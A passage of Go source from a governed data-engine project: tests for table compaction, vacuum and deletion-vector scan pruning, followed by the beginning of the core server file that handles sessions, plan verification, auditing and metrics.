			t.Fatalf("row %d = %d after optimize", i, rows.Cols[0].Int64(i))
		}
	}
	// Idempotent: one big file has nothing left to pack.
	b = mustExec(t, c, "OPTIMIZE tiny")
	if !strings.Contains(b.Cols[0].StringAt(0), "nothing to compact") {
		t.Fatalf("second optimize result: %s", b.Cols[0].StringAt(0))
	}
	// The compaction landed in the table history.
	h := mustExec(t, c, "DESCRIBE HISTORY tiny")
	if !strings.Contains(h.String(), "OPTIMIZE") {
		t.Fatalf("history missing OPTIMIZE:\n%s", h.String())
	}
}

func TestOptimizeAllowedOnPolicyProtectedTable(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	mustExec(t, c, "INSERT INTO sales VALUES (1, CAST('2024-12-03' AS DATE), 'eve', 'US')")
	mustExec(t, c, "ALTER TABLE sales SET ROW FILTER 'region = ''US'''")
	mustExec(t, c, "GRANT SELECT ON sales TO 'alice@corp.com'")
	mustExec(t, c, "GRANT MODIFY ON sales TO 'alice@corp.com'")
	// OPTIMIZE is content-preserving, so unlike DELETE/UPDATE it does not
	// require ownership on a policy-protected table — MODIFY suffices.
	alice := e.client("tok-alice")
	b, err := alice.ExecSQL("OPTIMIZE sales")
	if err != nil {
		t.Fatalf("non-owner OPTIMIZE with MODIFY: %v", err)
	}
	if !strings.Contains(b.Cols[0].StringAt(0), "compacted") {
		t.Fatalf("optimize result: %s", b.Cols[0].StringAt(0))
	}
	// The row filter still applies to alice's reads afterwards.
	n, err := alice.Table("sales").Count()
	if err != nil || n != 4 {
		t.Fatalf("alice sees %d rows after optimize, want 4 US rows (%v)", n, err)
	}
}

func TestVacuumStatement(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	mustExec(t, c, "CREATE TABLE tiny (n BIGINT)")
	for i := 0; i < 4; i++ {
		mustExec(t, c, fmt.Sprintf("INSERT INTO tiny VALUES (%d)", i))
	}
	mustExec(t, c, "OPTIMIZE tiny")
	// The four replaced files are tombstones until VACUUM deletes them.
	b := mustExec(t, c, "VACUUM tiny")
	if !strings.Contains(b.Cols[0].StringAt(0), "vacuumed 4 tombstoned") {
		t.Fatalf("vacuum result: %s", b.Cols[0].StringAt(0))
	}
	n, err := c.Table("tiny").Count()
	if err != nil || n != 4 {
		t.Fatalf("rows after vacuum = %d, %v", n, err)
	}
	// Nothing left on a second sweep.
	b = mustExec(t, c, "VACUUM tiny")
	if !strings.Contains(b.Cols[0].StringAt(0), "vacuumed 0 tombstoned and 0 orphaned") {
		t.Fatalf("second vacuum result: %s", b.Cols[0].StringAt(0))
	}
}

// TestDeleteCommitsOneLogPut pins the headline DML cost: a selective DELETE
// writes exactly one object — the log entry carrying the deletion vectors —
// and zero data files.
func TestDeleteCommitsOneLogPut(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	_, putsBefore := e.cat.Store().Stats()
	b := mustExec(t, c, "DELETE FROM sales WHERE region = 'EU'")
	if !strings.Contains(b.Cols[0].StringAt(0), "deleted 2 rows") {
		t.Fatalf("delete result: %s", b.Cols[0].StringAt(0))
	}
	_, putsAfter := e.cat.Store().Stats()
	if got := putsAfter - putsBefore; got != 1 {
		t.Fatalf("selective DELETE issued %d PUTs, want exactly 1 (the log entry)", got)
	}
}

// TestFullyDeletedFilePrunedBeforeGet proves a file whose deletion vector
// covers every row is skipped before any storage read: a fault planted on
// the dead file's object must never fire.
func TestFullyDeletedFilePrunedBeforeGet(t *testing.T) {
	m := telemetry.NewRegistry()
	e := newEnv(t, Config{Name: "std", Metrics: m})
	c := e.client("tok-admin")
	mustExec(t, c, "CREATE TABLE ev (id BIGINT, v BIGINT)")
	mustExec(t, c, "INSERT INTO ev VALUES (1, 10), (2, 20), (3, 30)") // version 1 → file 000001-*
	mustExec(t, c, "INSERT INTO ev VALUES (4, 40), (5, 50), (6, 60)") // version 2 → file 000002-*
	mustExec(t, c, "DELETE FROM ev WHERE id <= 3")                    // covers all of file 1

	// From here on, any GET of the fully-deleted file is a test failure.
	store := e.cat.Store()
	var fired bool
	store.SetFault(func(op, path string) error {
		if op == "get" && strings.HasPrefix(path, "tables/main/default/ev/data/000001") {
			fired = true
			return fmt.Errorf("read of fully-deleted file %s", path)
		}
		return nil
	})
	defer store.SetFault(nil)

	prunedBefore := m.Counter("scan.files.dv_pruned").Value()
	rows, err := c.Sql("SELECT id, v FROM ev ORDER BY id").Collect()
	if err != nil {
		t.Fatalf("scan over DV-pruned table: %v", err)
	}
	if rows.NumRows() != 3 || rows.Cols[0].Int64(0) != 4 {
		t.Fatalf("surviving rows wrong:\n%s", rows.String())
	}
	if fired {
		t.Fatal("scan issued a GET for a file whose deletion vector covers every row")
	}
	if got := m.Counter("scan.files.dv_pruned").Value() - prunedBefore; got != 1 {
		t.Errorf("scan.files.dv_pruned advanced by %d, want 1", got)
	}

	// Sanity: the fault injector is live — reading the file directly trips it.
	cred := store.Signer().Issue("tables/", storage.ModeRead, time.Minute)
	paths, err := store.List(&cred, "tables/main/default/ev/data/")
	if err != nil {
		t.Fatal(err)
	}
	var dead string
	for _, p := range paths {
		if strings.HasPrefix(p, "tables/main/default/ev/data/000001") {
			dead = p
		}
	}
	if dead == "" {
		t.Fatal("fully-deleted data object not found in storage listing")
	}
	if _, err := store.Get(&cred, dead); err == nil {
		t.Fatal("fault injector did not fire on a direct read")
	}
}

// TestDVMaskComposesWithZoneMapPruning runs a range predicate over a table
// where one file is zone-map pruned and another carries a partial deletion
// vector: the scan must apply both, and EXPLAIN ANALYZE must report them.
func TestDVMaskComposesWithZoneMapPruning(t *testing.T) {
	m := telemetry.NewRegistry()
	e := newEnv(t, Config{Name: "std", Metrics: m})
	c := e.client("tok-admin")
	mustExec(t, c, "CREATE TABLE ev (id BIGINT, v BIGINT)")
	mustExec(t, c, "INSERT INTO ev VALUES (1, 10), (2, 20), (3, 30)")
	mustExec(t, c, "INSERT INTO ev VALUES (4, 40), (5, 50), (6, 60)")
	mustExec(t, c, "DELETE FROM ev WHERE id = 5") // partial DV on file 2

	maskedBefore := m.Counter("scan.rows.dv_masked").Value()
	// id >= 4 zone-map-prunes file 1 (ids 1..3) entirely; file 2 is read and
	// row id=5 is masked by its deletion vector before the filter runs.
	analyze, rows, err := c.SqlExplainAnalyze("SELECT id FROM ev WHERE id >= 4 ORDER BY id")
	if err != nil {
		t.Fatal(err)
	}
	if rows != 2 {
		t.Fatalf("result rows = %d, want 2 (4 and 6)", rows)
	}
	if !strings.Contains(analyze, "pruned 1") {
		t.Errorf("EXPLAIN ANALYZE missing zone-map prune:\n%s", analyze)
	}
	if !strings.Contains(analyze, "dv-masked 1 rows") {
		t.Errorf("EXPLAIN ANALYZE missing dv-masked rows:\n%s", analyze)
	}
	if got := m.Counter("scan.rows.dv_masked").Value() - maskedBefore; got != 1 {
		t.Errorf("scan.rows.dv_masked advanced by %d, want 1", got)
	}
}
