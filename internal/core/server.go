// Package core is the Lakeguard layer: it ties the catalog, analyzer,
// optimizer, executor, sandbox dispatcher, and cluster manager into one
// governed multi-user server that implements the Connect backend interface.
// It owns per-session state (temp views, ephemeral UDFs, sandbox pools),
// dispatches commands, enforces the compute-type capability model (Standard
// vs Dedicated, paper §4), and performs external fine-grained access control
// (eFGAC, §3.4) when governed relations cannot be processed locally.
package core

import (
	"context"
	"errors"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"time"

	"lakeguard/internal/analyzer"
	"lakeguard/internal/audit"
	"lakeguard/internal/catalog"
	"lakeguard/internal/cluster"
	"lakeguard/internal/connect"
	"lakeguard/internal/exec"
	"lakeguard/internal/faults"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/plan"
	"lakeguard/internal/proto"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/sentinel"
	"lakeguard/internal/session"
	"lakeguard/internal/sql"
	"lakeguard/internal/systemtables"
	"lakeguard/internal/telemetry"
	"lakeguard/internal/types"
)

// Config parametrizes a Lakeguard server (one cluster).
type Config struct {
	// Catalog is the shared governance catalog.
	Catalog *catalog.Catalog
	// Name labels the cluster.
	Name string
	// Compute is the cluster's compute type; it drives privilege scoping
	// and whether user code isolation is available.
	Compute catalog.ComputeType
	// Hosts is the cluster size.
	Hosts int
	// Sandbox configures user-code isolation (cold start, fuel, egress).
	Sandbox sandbox.Config
	// ResourcePools defines specialized execution environments (paper §3.3)
	// that UDFs can target via RESOURCE declarations.
	ResourcePools map[string]cluster.PoolConfig
	// Optimizer selects rule toggles; zero value means DefaultOptions.
	Optimizer *optimizer.Options
	// Remote executes eFGAC subqueries (required for Dedicated compute to
	// read governed relations).
	Remote exec.RemoteExecutor
	// SpillThreshold switches large results to cloud-spill mode when the
	// client allows it (0 = never spill).
	SpillThreshold int
	// GroupScope, when set on a Dedicated cluster, allows every member of
	// the group to attach, with all permissions down-scoped to the group's
	// grants (paper §4.2).
	GroupScope string
	// Environments are the versioned Workload Environments clients may pin
	// user code to (paper §6.3): each version carries its own sandbox
	// configuration (interpreter fuel, egress policy, cold start). The
	// default environment is Config.Sandbox.
	Environments map[string]sandbox.Config
	// UnsafeInProcessUDFs runs user code without isolation (benchmark
	// baseline only).
	UnsafeInProcessUDFs bool
	// Parallelism is the engine's morsel-parallel worker count: scans,
	// filters, projections, aggregate input and join-build evaluation
	// partition work across this many workers with a deterministic ordered
	// gather. 0 reads LAKEGUARD_PARALLELISM, defaulting to runtime.NumCPU();
	// 1 forces serial execution.
	Parallelism int
	// SpillBytes is the per-operator hash-table budget for joins and grouped
	// aggregation: past it the operator spills partitions to temp storage and
	// grace-hash merges them. 0 reads LAKEGUARD_SPILL_BYTES, defaulting to
	// 256 MiB; negative disables spilling.
	SpillBytes int64
	// Faults is the chaos-test fault injector threaded into the cluster,
	// sandboxes, and the eFGAC client. Nil falls back to the FAULTS
	// environment variable (also nil when unset).
	Faults *faults.Injector
	// Supervisor tunes sandbox failure handling (circuit breaker,
	// provisioning retries). Zero value selects the defaults; the audit log
	// defaults to the catalog's.
	Supervisor sandbox.SupervisorConfig
	// Metrics, when non-nil, receives query latency histograms, row/error
	// counters, and (threaded into the supervisor) sandbox fleet metrics.
	Metrics *telemetry.Registry
	// Sessions is the session store. Nil creates a private store; a
	// serverless fleet may hand every cluster the same store, making session
	// state shareable and migration a cluster-local rebind (see
	// Gateway.Drain).
	Sessions *session.Store
	// SystemTables, when non-nil, receives a QueryRecord for every completed
	// query (success or error) for durable spooling into
	// system.query.history and the per-tenant usage rollup. Setting it also
	// turns on operator profiling for every query, so the spooled rows carry
	// rows/files-pruned/bytes-read — the cost rides inside the CI-enforced
	// telemetry overhead budget.
	SystemTables *systemtables.Spooler
}

// Server is one Lakeguard cluster.
type Server struct {
	cfg        Config
	cat        *catalog.Catalog
	clusterMgr *cluster.Manager
	dispatcher *sandbox.Dispatcher
	engine     *exec.Engine
	opts       optimizer.Options

	met serverMetrics

	// sessions is the (possibly fleet-shared) session store.
	sessions *session.Store

	mu sync.Mutex
	// envEngines are lazily built per Workload Environment.
	envEngines map[string]*exec.Engine
	// pinnedUser enforces single-identity semantics on Dedicated clusters
	// without a group scope.
	pinnedUser string
}

// serverMetrics are the per-cluster query instruments; all fields are nil
// (and every update a no-op) when Config.Metrics is unset.
type serverMetrics struct {
	hTotal, hAnalyze, hOptimize, hVerify, hExec *telemetry.Histogram
	queries, errors, rowsOut                    *telemetry.Counter
}

// ErrDedicatedSharing is returned when a second identity attaches to a
// dedicated cluster.
var ErrDedicatedSharing = errors.New("core: dedicated clusters cannot be shared by multiple identities")

// NewServer builds a Lakeguard cluster server.
func NewServer(cfg Config) *Server {
	if cfg.Name == "" {
		cfg.Name = "cluster"
	}
	if cfg.Hosts < 1 {
		cfg.Hosts = 2
	}
	if cfg.Compute == "" {
		cfg.Compute = catalog.ComputeStandard
	}
	if cfg.Faults == nil {
		// Chaos CI opts in via FAULTS/FAULTS_SEED; a malformed spec is an
		// operator error and must fail loudly, not silently run faultless.
		inj, err := faults.FromEnv()
		if err != nil {
			panic(err)
		}
		cfg.Faults = inj
	}
	if cfg.Supervisor.Audit == nil && cfg.Catalog != nil {
		cfg.Supervisor.Audit = cfg.Catalog.Audit()
	}
	if cfg.Supervisor.Metrics == nil {
		cfg.Supervisor.Metrics = cfg.Metrics
	}
	cfg.Parallelism = resolveParallelism(cfg.Parallelism)
	cfg.SpillBytes = resolveSpillBytes(cfg.SpillBytes)
	if cfg.Supervisor.Compute == "" {
		cfg.Supervisor.Compute = string(cfg.Compute)
	}
	// The server plane only ever executes sealed, sentinel-verified plans, so
	// its sandboxes enforce that end of the contract too: a crossing without
	// a verified-plan fingerprint is refused even if some engine path were
	// tricked into issuing one.
	cfg.Sandbox.RequireVerifiedPlans = true
	mgr := cluster.NewManager(cluster.Config{
		Name: cfg.Name, Compute: cfg.Compute, Hosts: cfg.Hosts, Sandbox: cfg.Sandbox,
		ResourcePools: cfg.ResourcePools, Faults: cfg.Faults,
	})
	dispatcher := sandbox.NewSupervised(mgr, cfg.Supervisor)
	opts := optimizer.DefaultOptions()
	if cfg.Optimizer != nil {
		opts = *cfg.Optimizer
	}
	if cfg.Sessions == nil {
		cfg.Sessions = session.NewStore()
	}
	s := &Server{
		cfg:        cfg,
		cat:        cfg.Catalog,
		clusterMgr: mgr,
		dispatcher: dispatcher,
		opts:       opts,
		sessions:   cfg.Sessions,
		envEngines: map[string]*exec.Engine{},
	}
	s.engine = &exec.Engine{
		Tables:              cfg.Catalog,
		Dispatcher:          dispatcher,
		Remote:              cfg.Remote,
		FuseUDFs:            opts.FuseUDFs,
		Parallelism:         cfg.Parallelism,
		SpillBytes:          cfg.SpillBytes,
		UnsafeInProcessUDFs: cfg.UnsafeInProcessUDFs,
		Metrics:             cfg.Metrics,
	}
	s.met = serverMetrics{
		hTotal:    cfg.Metrics.Histogram("query.total_ms", telemetry.DefLatencyBuckets),
		hAnalyze:  cfg.Metrics.Histogram("query.analyze_ms", telemetry.DefLatencyBuckets),
		hOptimize: cfg.Metrics.Histogram("query.optimize_ms", telemetry.DefLatencyBuckets),
		hVerify:   cfg.Metrics.Histogram("query.verify_ms", telemetry.DefLatencyBuckets),
		hExec:     cfg.Metrics.Histogram("query.exec_ms", telemetry.DefLatencyBuckets),
		queries:   cfg.Metrics.Counter("queries.total"),
		errors:    cfg.Metrics.Counter("queries.errors"),
		rowsOut:   cfg.Metrics.Counter("exec.rows_out"),
	}
	return s
}

// ms converts a duration to float milliseconds for histogram observation.
func ms(d time.Duration) float64 { return float64(d) / float64(time.Millisecond) }

// resolveParallelism resolves the engine worker count: an explicit config
// value wins, then LAKEGUARD_PARALLELISM, then runtime.NumCPU(). Like a
// malformed FAULTS spec, a malformed value is an operator error and fails
// loudly instead of silently running serial.
func resolveParallelism(explicit int) int {
	if explicit > 0 {
		return explicit
	}
	if v := os.Getenv("LAKEGUARD_PARALLELISM"); v != "" {
		n, err := strconv.Atoi(v)
		if err != nil || n < 1 {
			panic(fmt.Sprintf("core: malformed LAKEGUARD_PARALLELISM %q: want a positive integer", v))
		}
		return n
	}
	return runtime.NumCPU()
}

// resolveSpillBytes resolves the hash-table spill budget: an explicit config
// value wins (negative = never spill), then LAKEGUARD_SPILL_BYTES, then the
// engine default (256 MiB). A malformed value fails loudly.
func resolveSpillBytes(explicit int64) int64 {
	if explicit != 0 {
		return explicit
	}
	if v := os.Getenv("LAKEGUARD_SPILL_BYTES"); v != "" {
		n, err := strconv.ParseInt(v, 10, 64)
		if err != nil || n == 0 {
			panic(fmt.Sprintf("core: malformed LAKEGUARD_SPILL_BYTES %q: want a non-zero integer (negative disables spilling)", v))
		}
		return n
	}
	return 0
}

// Catalog returns the governance catalog.
func (s *Server) Catalog() *catalog.Catalog { return s.cat }

// Dispatcher exposes sandbox statistics.
func (s *Server) Dispatcher() *sandbox.Dispatcher { return s.dispatcher }

// ClusterManager exposes the cluster plane.
func (s *Server) ClusterManager() *cluster.Manager { return s.clusterMgr }

// Compute returns the server's compute type.
func (s *Server) Compute() catalog.ComputeType { return s.cfg.Compute }

// ActiveSessions reports how many sessions hold state in this server's
// session store (fleet-wide when the store is shared).
func (s *Server) ActiveSessions() int {
	return s.sessions.Len()
}

// SessionStore exposes the server's session store, so a gateway can detect
// clusters sharing state and migrate sessions by rebinding instead of
// export/import.
func (s *Server) SessionStore() *session.Store { return s.sessions }

// session returns (creating if needed) the state for a session, enforcing
// the compute type's identity rules.
func (s *Server) session(sessionID, user string) (*session.State, error) {
	return s.sessions.Attach(sessionID, user, s.admitUser)
}

// admitUser is the compute-type identity gate applied before a new session is
// created (the session store calls it under its lock, so check-and-create is
// atomic).
func (s *Server) admitUser(user string) error {
	if s.cfg.Compute != catalog.ComputeDedicated {
		return nil
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	switch {
	case s.cfg.GroupScope != "":
		if !s.cat.IsGroupMember(user, s.cfg.GroupScope) {
			return fmt.Errorf("core: user %q is not a member of this dedicated cluster's group %q", user, s.cfg.GroupScope)
		}
	case s.pinnedUser == "":
		s.pinnedUser = user
	case s.pinnedUser != user:
		return fmt.Errorf("%w (cluster pinned to %q)", ErrDedicatedSharing, s.pinnedUser)
	}
	return nil
}

// requestContext builds the catalog context for a session, applying
// dedicated-group down-scoping. The query's trace ID (if qctx carries a
// span) is stamped in, so every audit event recorded under this context
// joins back to the query's trace.
func (s *Server) requestContext(qctx context.Context, sessionID, user string) catalog.RequestContext {
	return catalog.RequestContext{
		User:       user,
		Compute:    s.cfg.Compute,
		ClusterID:  s.cfg.Name,
		SessionID:  sessionID,
		GroupScope: s.dedicatedGroupScope(),
		TraceID:    telemetry.TraceIDFrom(qctx),
	}
}

func (s *Server) dedicatedGroupScope() string {
	if s.cfg.Compute == catalog.ComputeDedicated {
		return s.cfg.GroupScope
	}
	return ""
}

// newAnalyzer builds an analyzer bound to a session's temp state.
func (s *Server) newAnalyzer(ctx catalog.RequestContext, st *session.State) *analyzer.Analyzer {
	a := analyzer.New(s.cat, ctx)
	a.TempViews = st.TempViews
	a.TempFuncs = st.TempFuncs
	return a
}

// engineFor returns the execution engine for a Workload Environment. Each
// named environment gets its own sandbox fleet (own cluster-manager plane
// and dispatcher), so user code pinned to "v1" executes exactly in v1's
// interpreter configuration regardless of the server's default (§6.3).
func (s *Server) engineFor(env string) (*exec.Engine, error) {
	if env == "" {
		return s.engine, nil
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if e, ok := s.envEngines[env]; ok {
		return e, nil
	}
	spec, ok := s.cfg.Environments[env]
	if !ok {
		available := make([]string, 0, len(s.cfg.Environments))
		for name := range s.cfg.Environments {
			available = append(available, name)
		}
		return nil, fmt.Errorf("core: unknown workload environment %q (available: %v)", env, available)
	}
	spec.RequireVerifiedPlans = true
	mgr := cluster.NewManager(cluster.Config{
		Name: s.cfg.Name + "-env-" + env, Compute: s.cfg.Compute,
		Hosts: s.cfg.Hosts, Sandbox: spec, Faults: s.cfg.Faults,
	})
	e := &exec.Engine{
		Tables:              s.cat,
		Dispatcher:          sandbox.NewSupervised(mgr, s.cfg.Supervisor),
		Remote:              s.cfg.Remote,
		FuseUDFs:            s.opts.FuseUDFs,
		Parallelism:         s.cfg.Parallelism,
		SpillBytes:          s.cfg.SpillBytes,
		UnsafeInProcessUDFs: s.cfg.UnsafeInProcessUDFs,
		Metrics:             s.cfg.Metrics,
	}
	s.envEngines[env] = e
	return e, nil
}

// verifyOptimized is the mandatory sentinel gate between the optimizer and
// everything that consumes an optimized plan (execution, EXPLAIN, MV
// refresh). It statically proves the optimizer preserved every policy
// obligation of the analyzed plan and records an audit event for the
// verification itself — pass or fail — attributed to the requesting user,
// session, and plan fingerprint. A violating plan never reaches the engine.
func (s *Server) verifyOptimized(qctx context.Context, ctx catalog.RequestContext, resolved, optimized plan.Node) (*sentinel.Report, error) {
	report := sentinel.VerifyCtx(qctx, resolved, optimized)
	decision := audit.DecisionAllow
	reason := fmt.Sprintf("verified: %d barrier(s), %d remote scan(s)", report.Barriers, report.RemoteScans)
	err := report.Err()
	if err != nil {
		decision = audit.DecisionDeny
		// The audit event enumerates every violation, not the error's
		// first-plus-count summary: the trail must attribute each violated
		// invariant and governance label.
		parts := make([]string, len(report.Violations))
		for i, v := range report.Violations {
			parts[i] = v.String()
		}
		reason = strings.Join(parts, "; ")
	}
	s.cat.Audit().Record(audit.Event{
		User: ctx.User, Compute: string(ctx.Compute), SessionID: ctx.SessionID,
		Action: "SENTINEL_VERIFY", Securable: "plan:" + report.Fingerprint,
		Decision: decision, Reason: reason, TraceID: ctx.TraceID,
	})
	return report, err
}

// sealVerified closes the time-of-check/time-of-use window between sentinel
// verification and execution: the verified plan is deep-copied into a
// private tree pinned to the verified fingerprint, and the seal is
// re-checked immediately before the copy is handed to the engine. A plan
// that drifted in that window — a hostile ExtraRule holding a reference, a
// misbehaving cache — is refused with a SENTINEL_VERIFY deny audit event,
// exactly like a plan that failed verification outright.
func (s *Server) sealVerified(ctx catalog.RequestContext, report *sentinel.Report, optimized plan.Node) (*sentinel.Sealed, error) {
	sealed, err := sentinel.Seal(optimized, report)
	if err == nil {
		err = sealed.Check()
	}
	if err != nil {
		s.cat.Audit().Record(audit.Event{
			User: ctx.User, Compute: string(ctx.Compute), SessionID: ctx.SessionID,
			Action: "SENTINEL_VERIFY", Securable: "plan:" + report.Fingerprint,
			Decision: audit.DecisionDeny, Reason: err.Error(), TraceID: ctx.TraceID,
		})
		return nil, err
	}
	return sealed, nil
}

// substituteSQL replaces SQLRelation nodes with their parsed plans.
func substituteSQL(n plan.Node) (plan.Node, error) {
	var firstErr error
	out := plan.Transform(n, func(x plan.Node) plan.Node {
		if sr, ok := x.(*plan.SQLRelation); ok {
			q, err := sql.ParseQuery(sr.Query)
			if err != nil {
				if firstErr == nil {
					firstErr = err
				}
				return x
			}
			return q
		}
		return x
	})
	return out, firstErr
}

// Execute implements connect.Backend. qctx bounds the whole execution: its
// deadline propagates through sandbox crossings and eFGAC submissions, and
// its span (if any) parents the whole server-side trace.
func (s *Server) Execute(qctx context.Context, sessionID, user string, pl *proto.Plan) (*types.Schema, []*types.Batch, error) {
	if qctx == nil {
		qctx = context.Background()
	}
	qctx, sp := telemetry.StartSpan(qctx, "core.execute")
	sp.SetAttr("cluster", s.cfg.Name)
	sp.SetAttr("user", user)
	start := time.Now()
	schema, batches, err := s.execute(qctx, sessionID, user, pl)
	s.met.hTotal.Observe(ms(time.Since(start)))
	s.met.queries.Inc()
	if err != nil {
		s.met.errors.Inc()
	}
	sp.EndErr(err)
	return schema, batches, err
}

func (s *Server) execute(qctx context.Context, sessionID, user string, pl *proto.Plan) (*types.Schema, []*types.Batch, error) {
	st, err := s.session(sessionID, user)
	if err != nil {
		return nil, nil, err
	}
	ctx := s.requestContext(qctx, sessionID, user)
	if pl.Command != nil {
		schema, batch, err := s.executeCommand(qctx, ctx, st, pl.Command)
		if err != nil {
			return nil, nil, err
		}
		return schema, []*types.Batch{batch}, nil
	}
	schema, batches, err := s.runQueryEnv(qctx, ctx, st, pl.Relation, pl.WorkloadEnv)
	if err != nil {
		return nil, nil, err
	}
	if pl.AllowSpill && s.cfg.SpillThreshold > 0 {
		return s.maybeSpill(ctx, schema, batches)
	}
	return schema, batches, nil
}

// runQuery analyzes, optimizes, and executes a relation in the default
// environment.
func (s *Server) runQuery(qctx context.Context, ctx catalog.RequestContext, st *session.State, rel plan.Node) (*types.Schema, []*types.Batch, error) {
	return s.runQueryEnv(qctx, ctx, st, rel, "")
}

// runQueryEnv is runQuery pinned to a Workload Environment.
func (s *Server) runQueryEnv(qctx context.Context, ctx catalog.RequestContext, st *session.State, rel plan.Node, env string) (*types.Schema, []*types.Batch, error) {
	return s.runQueryProfiled(qctx, ctx, st, rel, env, nil)
}

// runQueryProfiled is the instrumented query driver: each phase (analyze,
// optimize, verify, execute) runs under its own span, feeds the per-phase
// latency histograms, and — when prof is non-nil — stamps the EXPLAIN
// ANALYZE profile. When the server spools system tables, every query gets a
// profile (so the history row carries operator totals) and a QueryRecord is
// emitted on completion, success or error alike.
func (s *Server) runQueryProfiled(qctx context.Context, ctx catalog.RequestContext, st *session.State, rel plan.Node, env string, prof *telemetry.Profile) (*types.Schema, []*types.Batch, error) {
	spool := s.cfg.SystemTables
	if spool == nil {
		return s.runQueryPhases(qctx, ctx, st, rel, env, prof)
	}
	if prof == nil {
		prof = telemetry.NewProfile()
		prof.QueueWaitNanos = int64(telemetry.QueueWaitFrom(qctx))
	}
	sqlText := sqlTextOf(qctx, rel)
	start := time.Now()
	schema, batches, err := s.runQueryPhases(qctx, ctx, st, rel, env, prof)
	if prof.TotalNanos == 0 {
		prof.TotalNanos = int64(time.Since(start))
	}
	spool.RecordQuery(queryRecord(ctx, sqlText, prof, err))
	return schema, batches, err
}

// sqlTextKey carries the raw statement text from the SQL command entry
// point down to the history spooler.
type sqlTextKey struct{}

// withSQLText annotates a query context with the statement being executed.
func withSQLText(qctx context.Context, text string) context.Context {
	return context.WithValue(qctx, sqlTextKey{}, text)
}

// sqlTextOf extracts the original statement for the query-history row: the
// annotated command text when the query entered as SQL, else the first
// SQL-bearing relation in the submitted tree. Plans submitted as raw
// relation trees spool a placeholder rather than a policy-leaking render.
func sqlTextOf(qctx context.Context, rel plan.Node) string {
	if text, ok := qctx.Value(sqlTextKey{}).(string); ok && text != "" {
		return text
	}
	var text string
	plan.Walk(rel, func(n plan.Node) bool {
		if sr, ok := n.(*plan.SQLRelation); ok {
			text = sr.Query
			return false
		}
		return true
	})
	if text != "" {
		return text
	}
	return "<relation plan>"
}

// queryRecord derives the spooled history row from a completed query.
func queryRecord(ctx catalog.RequestContext, sqlText string, prof *telemetry.Profile, err error) systemtables.QueryRecord {
	totals := prof.Totals()
	rec := systemtables.QueryRecord{
		Time:           time.Now(),
		Tenant:         ctx.User,
		SessionID:      ctx.SessionID,
		TraceID:        ctx.TraceID,
		SQLText:        sqlText,
		Status:         "OK",
		QueueWaitNanos: prof.QueueWaitNanos,
		AnalyzeNanos:   prof.AnalyzeNanos,
		OptimizeNanos:  prof.OptimizeNanos,
		VerifyNanos:    prof.VerifyNanos,
		ExecNanos:      prof.ExecNanos,
		TotalNanos:     prof.TotalNanos,
		RowsOut:        totals.RowsOut,
		FilesScanned:   totals.FilesScanned,
		FilesPruned:    totals.FilesPruned,
		BytesRead:      totals.ReadBytes,
		SpillBytes:     totals.SpillBytes,
	}
	if err != nil {
		rec.Status = "ERROR"
		rec.Error = err.Error()
	}
	return rec
}

// runQueryPhases runs the analyze → optimize → verify → seal → execute
// pipeline.
func (s *Server) runQueryPhases(qctx context.Context, ctx catalog.RequestContext, st *session.State, rel plan.Node, env string, prof *telemetry.Profile) (*types.Schema, []*types.Batch, error) {
	engine, err := s.engineFor(env)
	if err != nil {
		return nil, nil, err
	}
	rel, err = substituteSQL(rel)
	if err != nil {
		return nil, nil, err
	}
	t0 := time.Now()
	resolved, err := s.newAnalyzer(ctx, st).AnalyzeCtx(qctx, rel)
	d := time.Since(t0)
	s.met.hAnalyze.Observe(ms(d))
	if prof != nil {
		prof.AnalyzeNanos = int64(d)
	}
	if err != nil {
		return nil, nil, err
	}
	t0 = time.Now()
	optimized := optimizer.OptimizeCtx(qctx, resolved, s.opts)
	d = time.Since(t0)
	s.met.hOptimize.Observe(ms(d))
	if prof != nil {
		prof.OptimizeNanos = int64(d)
	}
	t0 = time.Now()
	report, err := s.verifyOptimized(qctx, ctx, resolved, optimized)
	d = time.Since(t0)
	s.met.hVerify.Observe(ms(d))
	if prof != nil {
		prof.VerifyNanos = int64(d)
	}
	if err != nil {
		return nil, nil, err
	}
	qc := exec.NewQueryContext(s.cat, ctx)
	qc.Context = qctx
	qc.Profile = prof
	// Execute the sealed copy, never the optimizer's tree: nothing holding a
	// reference to the verified plan can rewrite what actually runs.
	sealed, err := s.sealVerified(ctx, report, optimized)
	if err != nil {
		return nil, nil, err
	}
	qc.VerifiedPlan = sealed.Fingerprint()
	t0 = time.Now()
	batches, err := engine.Execute(qc, sealed.Plan)
	d = time.Since(t0)
	s.met.hExec.Observe(ms(d))
	if prof != nil {
		prof.ExecNanos = int64(d)
	}
	if err != nil {
		return nil, nil, err
	}
	var rows int64
	for _, b := range batches {
		rows += int64(b.NumRows())
	}
	s.met.rowsOut.Add(rows)
	return resolved.Schema(), batches, nil
}

// ExecuteAnalyze runs a query with EXPLAIN ANALYZE profiling: the same
// governance gates as Execute (analysis, sentinel verification, credential
// vending) run unchanged, and the rendered operator profile is returned
// alongside the result.
func (s *Server) ExecuteAnalyze(qctx context.Context, sessionID, user string, pl *proto.Plan) (*types.Batch, string, error) {
	if qctx == nil {
		qctx = context.Background()
	}
	if pl.Command != nil {
		return nil, "", fmt.Errorf("core: EXPLAIN ANALYZE supports queries only, not commands")
	}
	qctx, sp := telemetry.StartSpan(qctx, "core.execute")
	sp.SetAttr("cluster", s.cfg.Name)
	sp.SetAttr("user", user)
	start := time.Now()
	batch, text, err := s.executeAnalyze(qctx, sessionID, user, pl)
	s.met.hTotal.Observe(ms(time.Since(start)))
	s.met.queries.Inc()
	if err != nil {
		s.met.errors.Inc()
	}
	sp.EndErr(err)
	return batch, text, err
}

func (s *Server) executeAnalyze(qctx context.Context, sessionID, user string, pl *proto.Plan) (*types.Batch, string, error) {
	st, err := s.session(sessionID, user)
	if err != nil {
		return nil, "", err
	}
	ctx := s.requestContext(qctx, sessionID, user)
	prof := telemetry.NewProfile()
	prof.QueueWaitNanos = int64(telemetry.QueueWaitFrom(qctx))
	start := time.Now()
	schema, batches, err := s.runQueryProfiled(qctx, ctx, st, pl.Relation, pl.WorkloadEnv, prof)
